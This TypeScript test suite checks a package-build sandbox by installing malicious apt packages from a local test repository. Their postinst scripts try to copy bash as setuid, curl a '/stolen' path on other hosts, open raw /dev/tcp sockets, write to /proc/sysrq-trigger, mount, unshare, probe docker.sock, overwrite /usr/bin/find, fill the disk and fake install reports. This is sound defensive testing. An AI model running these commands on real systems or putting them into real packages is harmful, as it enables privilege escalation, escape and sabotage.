/** Images with packages out of a repository whose maintainer means harm, on the real engine. */
import { randomUUID } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type PinnedPackage, packagesText } from '../../src/isolation/contract.ts'
import { CEILINGS } from '../../src/isolation/limits.ts'
import { createRunnerSandbox } from '../../src/isolation/runner-client.ts'
import { createMemoryWorkspace } from '../support/memory-workspace.ts'
import { aptRepository } from './apt-repository.ts'
import {
  build,
  buildsOf,
  built,
  nameOf,
  removeImages,
  tenantFor,
  used,
  withPackages,
} from './image-builds.ts'
import { baseImage, type InProcessRunner, startInProcess } from './in-process-runner.ts'
import { engine, ensureImage, missingEngine, run, sha256 } from './runner-process.ts'

const missing = await missingEngine()
/** For an engine with other work to do. */
const GONE = { timeout: 20_000 }

describe.skipIf(missing !== null)('a package that means harm', () => {
  let server: Server
  let runner: InProcessRunner
  let port = 0
  const requests: string[] = []
  beforeAll(async () => {
    ensureImage()
    const files = new Map<string, Buffer>()
    server = createServer((request, response) => {
      requests.push(`${request.headers.host} ${request.url}`)
      const file = files.get(normalizedPath(request.url ?? ''))
      if (file === undefined) response.writeHead(404).end()
      else response.end(file)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    port = (server.address() as AddressInfo).port
    const tries = [
      'cp /bin/bash /opt/suid && chmod 6755 /opt/suid && ls -l /opt/suid >&2',
      `for host in other.test:${port} 127.0.0.1:${port} registry.test:22; do
         curl -sS --max-time 5 http://$host/stolen >&2; curl -sSk --max-time 5 https://$host/stolen >&2
       done
       (exec 4<>/dev/tcp/127.0.0.1/${port}) 2>&1; (exec 4<>/dev/tcp/10.0.0.1/80) 2>&1
       true`,
    ]
    const packages = [
      { name: 'harm-tries', version: '1.0', postinst: tries.join('\n') },
      {
        name: 'harm-escapes',
        version: '1.0',
        postinst: `{ for path in /proc/sys/kernel/hostname /proc/sysrq-trigger /sys/kernel/mm/ksm/run; do
           echo x >$path && echo "wrote $path"; done
           mount -t tmpfs x /mnt && echo mounted; mknod /tmp/disk b 8 0 && echo mknod
           unshare -U true && echo unshared; chroot / true && echo chroot
           ls /var/run/docker.sock /proc/1/root/.dockerenv; grep -i nonewprivs /proc/self/status; } >&2; true`,
      },
      { name: 'harm-end', version: '1.0', postinst: 'cp /bin/false /usr/bin/find' },
      { name: 'harm-hangs', version: '1.0', postinst: 'sleep 600' },
      {
        name: 'harm-fills',
        version: '1.0',
        postinst:
          'for n in 1 2 3 4 5 6; do head -c 200M /dev/zero >/opt/fill$n; sleep 1; done; sleep 600',
      },
      {
        name: 'harm-stays',
        version: '1.0',
        postinst:
          'setsid bash -c "sleep 600" </dev/null >/dev/null 2>&1 & printf "\\e[31mred\\a\\n" >&2',
      },
      {
        name: 'harm-lies',
        version: '1.0',
        postinst: 'printf "apt\\tother\\t1\\n" >&3; echo "apt	x	1"',
      },
    ]
    for (const [path, file] of await aptRepository(packages)) files.set(path, file)
    runner = await startInProcess({
      addresses: {
        resolve: async (host) => (host.endsWith('.test') ? ['127.0.0.1'] : []),
      },
      builds: {
        hosts: [`registry.test:${port}`],
        apt: `deb [trusted=yes] http://registry.test:${port} ./`,
        pip: `http://registry.test:${port}/simple`,
        npm: `http://registry.test:${port}`,
      },
      buildTimeoutMs: 20_000,
      maxDiskBytes: 300 * 1024 * 1024,
    })
  })
  afterAll(async () => {
    await runner?.stop()
    await removeImages()
    server?.close()
  })
  const normalizedPath = (url: string): string =>
    new URL(url, 'http://x').pathname.replace('/./', '/')

  const harm = async (name: string) => {
    const tenant = tenantFor()
    const result = await build(runner, [{ manager: 'apt', name }], tenant)
    if (result.last?.event === 'built') used.set(tenant, result.last.packages)
    const said = result.events.flatMap((event) => (event.event === 'progress' ? [event.line] : []))
    return { ...result, tenant, said: said.join('\n') }
  }

  it('reaches nothing but its registry, and leaves nothing setuid', async () => {
    const { last, tenant, said } = await harm('harm-tries')
    expect(said).toContain('-rwsr-sr-x')
    expect(said).not.toContain('registry.test:')
    expect(requests.filter((line) => line.includes('stolen'))).toEqual([])
    expect(requests.length).toBeGreaterThan(0)
    const script = 'stat -c %a /opt/suid; /opt/suid -p -c "id -u; grep CapEff /proc/self/status"'
    const ran = await run(runner, withPackages(built(last), script), { tenant })
    expect(ran.stdout).toMatch(/^755\n[2-5]\d{4}\nCapEff:\s+0{16}\n$/)
  })

  it('has no power beyond its own files', async () => {
    const { said } = await harm('harm-escapes')
    expect(said).not.toMatch(/^(?:wrote .*|mounted|mknod|unshared|chroot)$/m)
    expect(said).toMatch(/^mount: .*permission denied/m)
    expect(said).toMatch(/NoNewPrivs:\s+1/)
  })

  it('hangs no longer than a build may take', async () => {
    const { last } = await harm('harm-hangs')
    expect(last).toMatchObject({ event: 'error', code: 'TIMEOUT' })
    await expect.poll(async () => (await buildsOf(runner)).length, GONE).toBe(0)
  })

  it('fills no more than a build may write', async () => {
    const { last } = await harm('harm-fills')
    expect(last).toMatchObject({ event: 'error', code: 'BUILD_FAILED' })
    await expect.poll(async () => (await buildsOf(runner)).length, GONE).toBe(0)
  })

  it('ends the build for good when it breaks the last step, and leaves nothing', async () => {
    const { last, tenant } = await harm('harm-end')
    expect(last).toMatchObject({ event: 'error', code: 'BUILD_FAILED' })
    await expect.poll(async () => (await buildsOf(runner)).length, GONE).toBe(0)
    expect(await engine.listImages(`edgeclaw.tenant=${sha256(tenant)}`)).toEqual([])
  })

  it('leaves no process, no terminal’s orders, and no label of its build', async () => {
    const { last, tenant, said } = await harm('harm-stays')
    expect(said).toMatch(/^red$/m)
    const packages = built(last)
    const { labels } = (await engine.inspectImage(nameOf(tenant, packages))) ?? { labels: {} }
    expect(labels).toMatchObject({
      'edgeclaw.tenant': sha256(tenant),
      'edgeclaw.packages': sha256(packagesText(packages)),
      'edgeclaw.base': await engine.imageId(baseImage()),
      'edgeclaw.build': '',
    })
    expect(JSON.stringify(labels)).not.toContain(tenant)
  })

  it('cannot say that another one was installed', async () => {
    const { last } = await harm('harm-lies')
    expect(built(last)).toEqual([{ manager: 'apt', name: 'harm-lies', version: '1.0' }])
  })

  it('is built once, however many ask, and one list at a time for a tenant', async () => {
    const tenant = tenantFor()
    const list = [{ manager: 'apt', name: 'harm-stays' }]
    const [one, two] = await Promise.all([build(runner, list, tenant), build(runner, list, tenant)])
    expect(built(one.last)).toEqual(built(two.last))
    used.set(tenant, built(one.last))
    const debs = requests.filter((line) => line.includes('harm-stays_'))
    const before = requests.length
    const hanging = build(runner, [{ manager: 'apt', name: 'harm-hangs' }], tenant)
    const isAsked = (line: string): boolean => line.includes('harm-hangs_')
    await expect.poll(() => requests.slice(before).some(isAsked), GONE).toBe(true)
    expect((await build(runner, list, tenant)).status).toBe(429)
    expect((await hanging).last).toMatchObject({ code: 'TIMEOUT' })
    expect(debs.length).toBe(requests.filter((line) => line.includes('harm-stays_')).length)
  })

  it('is built by a job that lacks it, as the gateway sends one', async () => {
    const tenant = tenantFor()
    const packages: PinnedPackage[] = [{ manager: 'apt', name: 'harm-stays', version: '1.0' }]
    used.set(tenant, packages)
    const slow: string[] = []
    const sandbox = createRunnerSandbox({
      runners: [runner.endpoint],
      signKey: runner.signKey,
      fetch: (input, init) => fetch(input, init),
      workspace: createMemoryWorkspace(),
      tenant,
      session: 'agent:main:ws:direct:packages',
      workspaceId: `${tenant}/agt_1/packages`,
      access: 'rw',
      scope: 'session',
      limits: CEILINGS,
      packages,
      now: Date.now,
    })
    const result = await sandbox.exec(
      {
        execId: `exec-${randomUUID()}`,
        isResumed: false,
        command: 'cat /opt/harm-stays',
        cwd: '',
        hasSeenUntrusted: false,
      },
      { signal: new AbortController().signal, onSlow: (reason) => slow.push(reason) },
    )
    expect(result).toMatchObject({ ok: true, value: { stdout: 'installed\n', exitCode: 0 } })
    expect(slow).toHaveLength(1)
  })

  it('is gone when the base image is another one', async () => {
    const { last, tenant } = await harm('harm-stays')
    const other = await startInProcess({
      addresses: { resolve: async () => [] },
      image: nameOf(tenant, built(last)),
    })
    try {
      const ran = await run(other, withPackages(built(last), 'true'), { tenant })
      expect(ran.error).toMatchObject({ code: 'IMAGE_MISSING' })
    } finally {
      await other.stop()
    }
  })
})
